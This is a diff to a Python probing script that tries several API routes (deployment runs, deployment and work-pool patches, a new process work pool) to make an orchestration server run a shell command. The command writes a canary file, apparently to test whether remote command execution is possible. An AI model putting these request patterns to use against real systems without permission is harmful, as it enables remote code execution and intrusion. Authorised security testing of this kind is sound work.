@@ -120,9 +120,10 @@ def guess(target: Target) -> Tried:
 def start_a_command(target: Target) -> Tried:
     tried = Tried("start a command of his: job variables, pool, deployment, run, automation")
     order = {"command": f"touch {target.canary}"}
+    run = {"parameters": {"place": "/"}, "job_variables": order}
     pool = {"job_configuration": order, "variables": {}}
     for method, path, body in (
-        ("POST", f"/api/deployments/{target.known['deployment']}/create_flow_run", {"job_variables": order}),
+        ("POST", f"/api/deployments/{target.known['deployment']}/create_flow_run", run),
         ("PATCH", f"/api/deployments/{target.known['deployment']}", {"job_variables": order}),
         ("PATCH", "/api/work_pools/recrawl", {"base_job_template": pool}),
         ("POST", "/api/work_pools/", {"name": "his", "type": "process", "base_job_template": pool}),
